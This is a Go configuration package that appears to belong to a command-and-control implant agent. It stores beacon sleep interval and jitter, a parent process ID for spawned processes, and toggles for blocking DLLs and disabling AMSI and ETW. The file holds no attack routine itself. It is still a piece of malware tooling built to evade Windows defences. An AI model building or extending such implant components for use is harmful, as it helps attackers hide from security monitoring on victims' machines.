// Package settings holds the agent's runtime configuration: sleep
// timing, the parent process id used for child processes, and the
// evasion toggles read by other subsystems.
//
// The Store is created once at process start, handed to every
// component that needs it, and lives as long as the process.  Entries
// are never deleted.  All methods are safe for concurrent use.
package settings

import (
	"fmt"
	"math/rand"
	"sort"
	"sync"
	"time"

	"drone/internal/errors"
)

// ── Keys ─────────────────────────────────────────────────────────────

// Key identifies one well-known configuration entry.
type Key int

const (
	SleepInterval   Key = iota // int, seconds
	SleepJitter                // int, percent of SleepInterval
	ParentProcessID            // int, pid used as parent for spawned processes
	BlockDLLs                  // bool
	DisableAMSI                // bool
	DisableETW                 // bool
)

// ValueType is the declared type of a Key.
type ValueType int

const (
	TypeInt ValueType = iota
	TypeBool
)

type keyInfo struct {
	name string
	typ  ValueType
	min  int
	max  int // 0 = unbounded
}

var keys = map[Key]keyInfo{
	SleepInterval:   {name: "SleepInterval", typ: TypeInt},
	SleepJitter:     {name: "SleepJitter", typ: TypeInt, max: 100},
	ParentProcessID: {name: "ParentProcessId", typ: TypeInt},
	BlockDLLs:       {name: "BlockDLLs", typ: TypeBool},
	DisableAMSI:     {name: "DisableAMSI", typ: TypeBool},
	DisableETW:      {name: "DisableETW", typ: TypeBool},
}

// Keys returns every well-known key in declaration order.
func Keys() []Key {
	out := make([]Key, 0, len(keys))
	for k := range keys {
		out = append(out, k)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// String returns the stable identifier of the key.
func (k Key) String() string {
	if info, ok := keys[k]; ok {
		return info.name
	}
	return fmt.Sprintf("Key(%d)", int(k))
}

// Type returns the declared value type of the key.
func (k Key) Type() ValueType { return keys[k].typ }

// ── Store ────────────────────────────────────────────────────────────

// Store is the process-wide configuration state.  The zero value is
// not usable; call New.
type Store struct {
	mu     sync.RWMutex
	values map[Key]interface{}
}

// New returns an empty store.  Every Get returns the type default
// until the key is set.
func New() *Store {
	return &Store{values: make(map[Key]interface{}, len(keys))}
}

// Set stores value under key, replacing any previous value.  Any Go
// integer type is accepted for integer keys.  A value of the wrong
// type or out of range is rejected and the store is left unchanged.
func (s *Store) Set(key Key, value interface{}) error {
	v, err := Check(key, value)
	if err != nil {
		return err
	}
	s.mu.Lock()
	s.values[key] = v
	s.mu.Unlock()
	return nil
}

// Check validates value for key without storing it and returns the
// normalised form that Set would store.
func Check(key Key, value interface{}) (interface{}, error) {
	info, ok := keys[key]
	if !ok {
		return nil, errors.Invalid(key.String(), nil, "unknown configuration key")
	}

	switch info.typ {
	case TypeBool:
		b, ok := value.(bool)
		if !ok {
			return nil, errors.Invalid(info.name, value, "expected a boolean, got %T", value)
		}
		return b, nil
	default:
		n, ok := toInt(value)
		if !ok {
			return nil, errors.Invalid(info.name, value, "expected an integer, got %T", value)
		}
		if n < info.min {
			return nil, errors.Invalid(info.name, value, "must be at least %d", info.min)
		}
		if info.max > 0 && n > info.max {
			return nil, errors.Invalid(info.name, value, "must be between %d and %d", info.min, info.max)
		}
		return n, nil
	}
}

// Lookup returns the stored value and whether key was ever set.
func (s *Store) Lookup(key Key) (interface{}, bool) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	v, ok := s.values[key]
	return v, ok
}

// Int returns the integer stored under key, or 0.
func (s *Store) Int(key Key) int { return Get[int](s, key) }

// Bool returns the boolean stored under key, or false.
func (s *Store) Bool(key Key) bool { return Get[bool](s, key) }

// Snapshot returns a copy of every stored entry keyed by identifier.
func (s *Store) Snapshot() map[string]interface{} {
	s.mu.RLock()
	defer s.mu.RUnlock()
	out := make(map[string]interface{}, len(s.values))
	for k, v := range s.values {
		out[k.String()] = v
	}
	return out
}

// Get returns the value stored under key coerced to T.  Integer values
// convert to any integer T; anything else that is not already a T
// yields the zero value, as does a key that was never set.
func Get[T any](s *Store, key Key) T {
	var zero T
	v, ok := s.Lookup(key)
	if !ok {
		return zero
	}
	if t, ok := v.(T); ok {
		return t
	}

	n, isInt := v.(int)
	if !isInt {
		return zero
	}
	switch p := any(&zero).(type) {
	case *int64:
		*p = int64(n)
	case *int32:
		*p = int32(n)
	case *uint:
		*p = uint(n)
	case *uint32:
		*p = uint32(n)
	case *uint64:
		*p = uint64(n)
	case *time.Duration:
		*p = time.Duration(n) * time.Second
	}
	return zero
}

// ── Sleep timing ─────────────────────────────────────────────────────

// SleepDuration returns the next check-in delay: SleepInterval seconds
// varied by up to ±SleepJitter percent.  rnd may be nil to use the
// package-level source.
func (s *Store) SleepDuration(rnd *rand.Rand) time.Duration {
	s.mu.RLock()
	interval, _ := s.values[SleepInterval].(int)
	jitter, _ := s.values[SleepJitter].(int)
	s.mu.RUnlock()

	base := time.Duration(interval) * time.Second
	if jitter <= 0 || base <= 0 {
		return base
	}

	spread := float64(base) * float64(jitter) / 100
	var f float64
	if rnd != nil {
		f = rnd.Float64()
	} else {
		f = rand.Float64()
	}
	d := float64(base) - spread + f*2*spread
	if d < 0 {
		d = 0
	}
	return time.Duration(d)
}

// ── helpers ──────────────────────────────────────────────────────────

func toInt(v interface{}) (int, bool) {
	switch n := v.(type) {
	case int:
		return n, true
	case int8:
		return int(n), true
	case int16:
		return int(n), true
	case int32:
		return int(n), true
	case int64:
		if int64(int(n)) != n {
			return 0, false
		}
		return int(n), true
	case uint8:
		return int(n), true
	case uint16:
		return int(n), true
	case uint32:
		return int(n), true
	case uint:
		if n > uint(^uint(0)>>1) {
			return 0, false
		}
		return int(n), true
	case uint64:
		if n > uint64(^uint(0)>>1) {
			return 0, false
		}
		return int(n), true
	default:
		return 0, false
	}
}
